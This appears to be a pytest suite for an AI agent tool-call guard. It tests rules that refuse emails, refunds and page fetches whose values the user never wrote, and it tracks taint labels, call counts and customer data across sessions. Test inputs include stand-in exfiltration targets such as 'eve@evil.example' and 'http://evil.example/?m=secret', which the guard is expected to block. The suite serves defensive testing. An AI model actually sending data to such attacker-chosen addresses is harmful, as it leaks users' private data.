"""Where values came from, on the whole road: what the user wrote, what results brought, labels of tokens, counts and time."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest

from agentguard.audit import read
from agentguard.config import open_erasure, open_guard
from agentguard.errors import CallRefused, GuardUnavailable, ResultWithheld
from agentguard.guard.erasure import Named
from agentguard.guard.pipeline import Guard
from agentguard.store.redis import Connection
from tests.guard.world import CUSTOMER, POLICY, World

pytestmark = pytest.mark.anyio

ANN = "ann@acme.example"
RULES = """\
  - {id: stranger, tools: [send_email], when: 'params.recipient.exists(r, !user_wrote(r))', deny: true}
  - {id: odd-amount, tools: [refund], when: '!user_wrote(args.amount)', deny: true}
approvals:"""
ORIGINS = """\
  - {id: from-a-page, tools: [echo], when: '"read_page" in came_from(args.value)', deny: true}
approvals:"""
FLOW = """\
  - {id: customers-stay, tools: [echo], when: '"customer-data" in data.labels', deny: true}
  - {id: found-names, tools: [read_page], when: '"found:PERSON" in session.labels', deny: true}
approvals:"""
FETCHING = """\
  - id: address-the-user-never-wrote
    tools: [read_page]
    when: '"untrusted" in session.labels && params.url.exists(u, !user_wrote(u))'
    deny: true
approvals:"""
MANY = """\
  - {id: too-often, tools: [echo], when: 'session.counts["echo"] > 2 || session.counts["read_page"] > 1', deny: true}
  - {id: here, tools: [http_post], when: 'deployment != "" || tenant == "x" || agent == "other" || user != "ann@acme.example"', deny: true}
  - {id: long-ago, tools: [refund], when: 'time < timestamp("2026-01-01T00:00:00Z")', deny: true}
approvals:"""


def with_rules(world: World, rules: str) -> World:
    """The world with other rules for the same tools."""
    text = (
        POLICY.replace("DEADLINE", "20s")
        .replace("refund: {risk: high", "refund: {risk: low")
        .replace("approvals:", rules)
    )
    (world.policies / "policy.yaml").write_text(text)
    return world


@pytest.fixture
def telling(world: World) -> World:
    """A world whose rules ask what the user wrote."""
    return with_rules(world, RULES)


@pytest.fixture
def guard(telling: World) -> Iterator[Guard]:
    """A guard in that world."""
    with telling.open() as opened:
        yield opened


async def test_a_recipient_that_the_user_wrote_is_written_to(telling: World, guard: Guard) -> None:
    """And one that the user never wrote is not."""
    with guard.session(user=ANN, asked="Write to bob@acme.example, please"):
        assert "sent" in await telling.call(guard, "send_email", to="bob@acme.example")
        with pytest.raises(CallRefused):
            await telling.call(guard, "send_email", to="eve@evil.example")


async def test_what_the_user_writes_later_counts_too(telling: World, guard: Guard) -> None:
    """Through either door."""
    with guard.session(user=ANN, asked="Hello"):
        await guard.user_said("Write to bob@acme.example")
        guard.blocking.user_said("and to cem@acme.example")
        await telling.call(guard, "send_email", to="bob@acme.example")
        await telling.call(guard, "send_email", to="cem@acme.example")


async def test_another_process_and_a_later_one_know_what_the_user_wrote(telling: World) -> None:
    """A restart forgets nothing; another session knows nothing of it."""
    with telling.open() as one, one.session(user=ANN, id="thread"):
        await one.user_said("Write to bob@acme.example")
    with telling.open() as other:
        with other.session(user=ANN, id="thread"):
            await telling.call(other, "send_email", to="bob@acme.example")
        with other.session(user=ANN, id="another"), pytest.raises(CallRefused):
            await telling.call(other, "send_email", to="bob@acme.example")


async def test_where_nobody_told_what_the_user_wrote_the_rule_speaks(telling: World, guard: Guard) -> None:
    """The journal says that its condition failed."""
    with guard.session(user=ANN), pytest.raises(CallRefused):
        await telling.call(guard, "send_email", to="bob@acme.example")

    judged = [entry.body for entry in read(telling.folder / "state" / "journal") if entry.kind == "judged"]
    assert [(clause["id"], clause["error"]) for clause in judged[-1]["clauses"] if clause["error"]] == [
        ("stranger", "NOT_FOUND")
    ]  # type: ignore[index, union-attr]


async def test_a_session_that_is_erased_takes_its_words_along(telling: World) -> None:
    """Digests are no words, and still they go."""
    with telling.open() as guard, guard.session(user=ANN, id="thread"):
        await guard.user_said("Write to bob@acme.example")
        await telling.call(guard, "find_customer", customer_id=7)
        await telling.call(guard, "send_email", to="bob@acme.example")
    async with open_erasure(telling.settings, tenant=telling.tenant) as erasure:
        named = Named(what="session", text="thread")
        await erasure.erase(named, await erasure.find(named), by="dan")

    connection = await Connection.open(telling.redis_url)
    left = await connection.execute("KEYS", f"*{telling.tenant}*")
    await connection.close()
    assert not [
        key for key in left if b":said:" in key or b":brought:" in key or b":counts:" in key or b":sources:" in key
    ]


async def test_a_token_is_compared_as_the_value_that_it_stands_for(telling: World, guard: Guard) -> None:
    """The model writes the token of an address; the user wrote the address, or did not."""
    with guard.session(user=ANN, asked=f"Look up 7 and write to {CUSTOMER['email']}"):
        seen = await telling.call(guard, "find_customer", customer_id=7)
        await telling.call(guard, "send_email", to=seen["email"])
    with guard.session(user=ANN, asked="Look up 7 and write to her"):
        seen = await telling.call(guard, "find_customer", customer_id=7)
        with pytest.raises(CallRefused):
            await telling.call(guard, "send_email", to=seen["email"])


async def test_an_amount_is_compared_as_a_number(telling: World, guard: Guard) -> None:
    """However it is written; one inside an order's number is none."""
    with guard.session(user=ANN, asked="Refund 1,200.00 of order 7734-99"):
        await telling.call(guard, "refund", order_id=7734, amount=1200.0)
        with pytest.raises(CallRefused):
            await telling.call(guard, "refund", order_id=7734, amount=99.0)


async def test_a_call_that_reads_none_of_it_touches_redis_not_at_all(telling: World) -> None:
    """Also where other rules of the policy ask what the user wrote."""
    with telling.open() as guard, guard.session(user=ANN, id="quiet"):
        await telling.call(guard, "echo", value="x")
        connection = await Connection.open(telling.redis_url)
        await connection.execute("CONFIG", "RESETSTAT")
        for _ in range(20):
            await telling.call(guard, "echo", value="x")
        stats = await connection.execute("INFO", "commandstats")
        await connection.close()

    assert not {"cmdstat_evalsha", "cmdstat_eval", "cmdstat_smembers"} & set(stats)


async def test_a_call_that_reads_it_costs_one_round_trip(telling: World) -> None:
    """Labels, counts and words together."""
    rules = RULES.replace("!user_wrote(r)", '!user_wrote(r) && !("x" in session.labels) && session.counts.echo < 99')
    with with_rules(telling, rules).open() as guard, guard.session(user=ANN, asked="Write to bob@acme.example"):
        await telling.call(guard, "send_email", to="bob@acme.example")
        connection = await Connection.open(telling.redis_url)
        await connection.execute("CONFIG", "RESETSTAT")
        for _ in range(10):
            await telling.call(guard, "send_email", to="bob@acme.example")
        stats = await connection.execute("INFO", "commandstats")
        await connection.close()

    assert stats["cmdstat_evalsha"]["calls"] == 10
    assert not {"cmdstat_eval", "cmdstat_hmget"} & set(stats)


async def test_a_rule_knows_which_tool_brought_a_value(world: World) -> None:
    """Whatever the value is: no token stands for it."""
    with with_rules(world, ORIGINS).open() as guard, guard.session(user=ANN, id="s"):
        await world.call(guard, "read_page", url="https://acme.example")  # it says hello
        await world.call(guard, "echo", value="something else")
        with pytest.raises(CallRefused):
            await world.call(guard, "echo", value="hello")
    with world.open() as later, later.session(user=ANN, id="s"), pytest.raises(CallRefused):
        await world.call(later, "echo", value="hello")


async def test_t36_reading_an_address_that_somebody_else_chose_is_sending(world: World) -> None:
    """Once something was read, a page is fetched only where the user wrote its address: another path or query carries a message out."""
    with (
        with_rules(world, FETCHING).open() as guard,
        guard.session(user=ANN, asked="Sum up www.blog.example/post for me"),
    ):
        await world.call(
            guard, "read_page", url="https://news.example/"
        )  # nothing was read yet that could have asked for it
        await world.call(guard, "read_page", url="http://www.blog.example/post")
        for address in (
            "http://evil.example/?m=secret",
            "http://www.blog.example/post?m=secret",
            "http://secret.blog.example/post",
        ):
            with pytest.raises(CallRefused):
                await world.call(guard, "read_page", url=address)

    assert [arguments["url"] for _, arguments in world.tools.ran] == [
        "https://news.example/",
        "http://www.blog.example/post",
    ]


async def test_a_result_whose_words_can_not_be_kept_is_withheld(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    """Else a later call would seem to hold nothing of it."""

    async def away(*_: object, **__: object) -> object:
        raise GuardUnavailable("redis", "away")

    with with_rules(world, ORIGINS).open() as guard, guard.session(user=ANN):
        monkeypatch.setattr("agentguard.session.words.Words.read", away)
        with pytest.raises(ResultWithheld):
            await world.call(guard, "read_page", url="https://acme.example")


async def test_customer_data_is_known_by_its_tokens(world: World) -> None:
    """What came from a customer's record is kept back, and what did not passes, whatever the session has read; also after a restart."""
    with with_rules(world, FLOW).open() as guard, guard.session(user=ANN, id="s"):
        seen = await world.call(guard, "find_customer", customer_id=7)
        await world.call(guard, "echo", value="nothing of it")
        await world.call(guard, "echo", value="eve@evil.example")
        with pytest.raises(CallRefused):
            await world.call(guard, "echo", value=f"write to {seen['email']}")
    with world.open() as later, later.session(user=ANN, id="s"), pytest.raises(CallRefused):
        await world.call(later, "echo", value=seen["email"])


async def test_what_masking_found_is_a_label_where_a_rule_asks_for_it(world: World) -> None:
    """`found:TYPE`; the journal has it among the labels that the result added."""
    with with_rules(world, FLOW).open() as guard, guard.session(user=ANN):
        await world.call(guard, "read_page", url="https://acme.example")
        await world.call(guard, "find_customer", customer_id=7)
        with pytest.raises(CallRefused):
            await world.call(guard, "read_page", url="https://acme.example")

    settled = [
        entry.body["labels_added"] for entry in read(world.folder / "state" / "journal") if entry.kind == "settled"
    ]
    assert settled == [["untrusted"], ["customer-data", "found:PERSON"]]


async def test_calls_are_counted_over_processes(world: World) -> None:
    """Each call, this one included; a tool that was never called was called no times."""
    with with_rules(world, MANY).open() as guard, guard.session(user=ANN, id="s"):
        await world.call(guard, "echo", value=1)
        await world.call(guard, "echo", value=1)
    with world.open() as later, later.session(user=ANN, id="s"), pytest.raises(CallRefused):
        await world.call(later, "echo", value=1)
    with world.open() as other, other.session(user=ANN, id="t"):
        await world.call(other, "read_page", url="https://acme.example")
        await world.call(other, "read_page", url="https://acme.example")
        with pytest.raises(CallRefused):
            await world.call(other, "echo", value=1)


async def test_the_deployment_the_tenant_the_agent_the_user_and_the_time_are_known(world: World) -> None:
    """The same call in a deployment with a name is denied; a time that is gone never comes."""
    with with_rules(world, MANY).open() as guard, guard.session(user=ANN):
        await world.call(guard, "http_post", url="https://acme.example")
        await world.call(guard, "refund", order_id=1, amount=1.0)
    assert datetime.now(UTC).year >= 2026
    named = world.settings.model_copy(update={"deployment": "production"})
    elsewhere = open_guard(Path(world.policies), tenant=world.tenant, settings=named)
    with elsewhere, elsewhere.session(user=ANN), pytest.raises(CallRefused):
        await world.call(elsewhere, "http_post", url="https://acme.example")
